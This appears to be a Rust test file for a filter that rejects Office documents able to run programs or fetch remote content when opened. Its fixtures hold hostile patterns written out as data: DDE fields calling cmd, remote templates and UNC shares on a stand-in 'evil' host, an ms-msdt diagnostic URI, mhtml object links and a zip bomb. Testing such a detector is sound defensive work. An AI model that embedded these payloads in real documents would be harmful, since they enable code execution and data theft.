// SPDX-License-Identifier: MPL-2.0
//! Office documents that start a program or fetch something when they are opened.

use super::*;

const EXTERNAL: &str = r#"TargetMode="External""#;

fn to(kind: &str, target: &str) -> Vec<u8> {
    let target = target.replace('&', "&amp;");
    let relation = format!(r#"<Relationship Type="{RELATIONS}/{kind}" Target="{target}" {EXTERNAL}/>"#);
    format!("<Relationships>{relation}</Relationships>").into()
}

fn word_with(name: &str, content: &[u8]) -> Result<ChatFileKind, ChatFileError> {
    Package::word().with(name, content).examined()
}

fn paragraph(fields: &str) -> Vec<u8> {
    format!(r#"<w:document xmlns:w="w"><w:p>{fields}</w:p></w:document>"#).into()
}

fn utf16(text: &str, mark: &str) -> Vec<u8> {
    format!("{mark}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[test]
fn programs_are_refused_by_their_beginning_and_by_their_name() {
    for content in [b"MZ\x90".as_slice(), b"\x7fELF", b"L\0\0\0\x01\x14\x02\0", b"#!/bin/sh", b"Rar!\x1A\x07"] {
        assert_eq!(word_with("word/embeddings/a.bin", content), Err(ChatFileError::Active));
    }
    for name in ["a.js", "A.LNK", "thu.pdf.exe", "x.hta", "y.scr."] {
        assert_eq!(word_with(&format!("word/embeddings/{name}"), b"x"), Err(ChatFileError::Active), "{name}");
    }
}

#[test]
fn an_object_with_a_packed_file_is_refused_however_its_stream_is_written() {
    // More entries than one sector has: the chain is followed.
    let many = [("Root Entry", 0), ("a", 0), ("b", 0), ("c", 0), ("d", 0), ("\u{1}oLE10nATıVE", 0)];
    for object in [
        compound(&[("Root Entry", 0), ("\u{1}Ole10Native", 0)]),
        compound(&[("Root Entry", 0), ("\u{1}oLE10nATIVE", 0)]),
        compound(&many),
        compound(&[("Root Entry", 0), ("pACKAGE", 0)]),
        compound(&[("Root Entry", 0x0003_000C), ("CONTENTS", 0)]),
    ] {
        assert_eq!(word_with("word/embeddings/o.bin", &object), Err(ChatFileError::Active));
    }
}

#[test]
fn an_object_whose_directory_cannot_be_read_is_not_taken() {
    let mut circle = compound(&[("Root Entry", 0)]);
    circle[512 + 4..512 + 8].copy_from_slice(&1_u32.to_le_bytes());
    let cut = compound(&[("Root Entry", 0)])[..600].to_vec();
    for object in [circle, cut, b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec()] {
        assert_eq!(word_with("word/embeddings/o.bin", &object), Err(ChatFileError::Kind));
    }
}

#[test]
fn a_document_within_a_document_is_examined_too() {
    let macros = || Package::word().with("word/vbaProject.bin", b"x").file();
    assert_eq!(word_with("word/embeddings/a.docx", &macros()), Err(ChatFileError::Macros));
    assert_eq!(word_with("word/a.dat", &macros()), Err(ChatFileError::Macros), "whatever it is called");
    let deep = Package::word().with("word/a.docx", &macros()).file();
    assert_eq!(word_with("word/a.docx", &deep), Err(ChatFileError::Macros));
    let deeper = (0..3).fold(Package::word().file(), |inner, _| Package::word().with("word/a.docx", &inner).file());
    assert_eq!(examined(&deeper), Err(ChatFileError::Active), "nobody looks so far down");
    let nothing = vec![0; 60 << 20];
    let halves = || Package::word().with("a.bin", &nothing).with("b.bin", &nothing).file();
    let bomb = Package::word().with("1.docx", &halves()).with("2.docx", &halves());
    assert_eq!(bomb.examined(), Err(ChatFileError::TooLarge), "all of it counts together");
}

#[test]
fn texts_that_are_put_into_the_document_bring_no_objects_along() {
    for rtf in [
        r"{\rtf1{\object\objemb\objupdate{\*\objclass Package}}}",
        r"{\rtf1{\*\objdata 01050000}}",
        "\n{\\rt{\\*\\template http://evil/t.dotm}}",
    ] {
        assert_eq!(word_with("word/a.rtf", rtf.as_bytes()), Err(ChatFileError::Active), "{rtf}");
    }
    let far = format!("{{\\rtf1 {}{{\\*\\objdata 01}}}}", "x".repeat(64 * 1024 - 10));
    assert_eq!(word_with("word/a.rtf", far.as_bytes()), Err(ChatFileError::Active));
    assert_eq!(word_with("word/a.rtf", br"{\rtf1 Ph\u7909? l\u7909?c}"), Ok(ChatFileKind::Docx));
    assert_eq!(word_with("word/a.htm", b"<html><p>x<br><script>y</script>"), Err(ChatFileError::Active));
    assert_eq!(word_with("word/a.htm", b"<html><p>x<br></html>"), Ok(ChatFileKind::Docx));
    let hidden = r#"<!-- <html> --><html:p xmlns:html="w"><html:fldSimple html:instr="DDE cmd"/></html:p>"#;
    assert_eq!(word_with("word/a.htm", hidden.as_bytes()), Err(ChatFileError::Active), "it is no page");
    assert_eq!(word_with("word/a.mht", b"From: x\nMIME-Version: 1.0\n"), Err(ChatFileError::Active));
}

#[test]
fn relationships_lead_to_pages_of_the_web_and_to_no_share_or_program() {
    for (kind, target) in [
        ("hyperlink", "https://chinhphu.vn/?a=1&b=2"),
        ("hyperlink", "mailto:vanphong@a.gov.vn"),
        ("hyperlink", "phu-luc.docx"),
        ("image", "https://a.vn/anh.png"),
        ("externalLinkPath", "so-lieu.xlsx"),
        ("video", "https://a.vn/phim"),
    ] {
        assert_eq!(word_with("x/_rels/main.xml.rels", &to(kind, target)), Ok(ChatFileKind::Docx), "{kind} {target}");
    }
    for (kind, target) in [
        ("hyperlink", "file:///c:/windows/system32/calc.exe"),
        ("hyperlink", "calc.exe"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        ("image", "file://evil/share/x.png"),
        ("image", r"\\evil\share\x.png"),
        ("externalLinkPath", r"file:///\\evil\s\x.xlsx"),
        ("externalLinkPath", "http://evil/x.xlsx"),
        ("attachedTemplate", "http://evil/t.dotm"),
        ("attachedTemplate ", "http://evil/t.dotm"),
        ("aFChunk", "http://evil/x.html"),
        ("oleObject", "mhtml:http://evil/x.html!x-usc:http://evil/x.html"),
    ] {
        let found = word_with("x/_rels/main.xml.rels", &to(kind, target));
        assert_eq!(found, Err(ChatFileError::Active), "{kind} {target}");
    }
}

#[test]
fn fields_that_start_a_program_are_refused_in_every_part_and_encoding() {
    let begin = r#"<w:r><w:fldChar w:fldCharType="begin"/></w:r>"#;
    let split = format!(r"{begin}<w:instrText>DD</w:instrText><w:instrText>&#69;AUTO cmd</w:instrText>");
    let simple = r#"<w:fldSimple w:instr="INCLUDETEXT \\\\evil\\x.docx"/>"#;
    for fields in [&*split, simple] {
        assert_eq!(word_with("word/chan-trang.dat", &paragraph(fields)), Err(ChatFileError::Active), "{fields}");
        let text = String::from_utf8(paragraph(fields)).unwrap();
        for mark in ["", "\u{feff}"] {
            assert_eq!(word_with("word/a.xml", &utf16(&text, mark)), Err(ChatFileError::Active), "{fields}");
        }
    }
    let usual = format!("{begin}<w:instrText> PAGE </w:instrText><w:t>DDE &amp; DDEAUTO</w:t>");
    assert_eq!(word_with("word/a.xml", &paragraph(&usual)), Ok(ChatFileKind::Docx));
    assert_eq!(word_with("customXml/item1.xml", &utf16("<DataMashup/>\n", "\u{feff}")), Ok(ChatFileKind::Docx));
}

#[test]
fn workbooks_talk_to_no_program_and_ask_the_web_for_nothing_by_themselves() {
    let workbook = |part: &str| Package::new("spreadsheetml.sheet").with("xl/a.xml", part.as_bytes()).examined();
    for part in [
        r#"<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>"#,
        r#"<x:connections><x:connection refreshOnLoad="1"><x:webPr url="http://evil/"/></x:connection></x:connections>"#,
        r#"<connections><connection interval="1"/></connections>"#,
        r#"<customUI onLoad="x"/>"#,
    ] {
        assert_eq!(workbook(part), Err(ChatFileError::Active), "{part}");
    }
    for part in [r#"<connections><connection refreshOnLoad="0"/></connections>"#, "<worksheet/>", "<externalLink/>"] {
        assert_eq!(workbook(part), Ok(ChatFileKind::Xlsx), "{part}");
    }
}

#[test]
fn slides_start_no_program_by_a_click() {
    let slides = |action: &str| {
        let slide = format!(r#"<p:sld><a:hlinkClick action="{action}"/></p:sld>"#);
        Package::new("presentationml.presentation").with("ppt/slide1.xml", slide.as_bytes()).examined()
    };
    assert_eq!(slides("ppaction://program"), Err(ChatFileError::Active));
    assert_eq!(slides("ppaction://hlinksldjump"), Ok(ChatFileKind::Pptx));
}

#[test]
fn controls_are_refused() {
    let controls = [
        Package::word().with("word/activeX/activeX1.bin", b"x"),
        Package::word().with("x/_rels/main.xml.rels", &relation("control", "")),
        Package::word().with_type(r#"<Default Extension="bin" ContentType="application/vnd.ms-office.activeX"/>"#),
    ];
    for package in controls {
        assert_eq!(package.examined(), Err(ChatFileError::Active));
    }
}
